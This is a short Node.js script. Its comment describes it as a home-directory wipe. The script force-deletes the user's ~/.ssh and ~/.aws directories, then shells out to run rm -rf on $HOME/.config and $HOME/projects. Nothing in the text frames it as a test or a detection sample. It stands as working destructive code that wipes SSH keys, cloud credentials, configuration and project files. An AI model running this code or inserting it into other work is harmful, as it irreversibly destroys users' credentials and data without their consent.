// Wipe the home the way rm -rf and fs.rmSync do: names removed under a
// descriptor of their directory (unlinkat), never a full path.
const fs = require('fs'), os = require('os'), path = require('path');
fs.rmSync(path.join(os.homedir(), '.ssh'), { recursive: true, force: true });
fs.rmSync(path.join(os.homedir(), '.aws'), { recursive: true, force: true });
require('child_process').execSync('rm -rf "$HOME/.config" "$HOME/projects"');
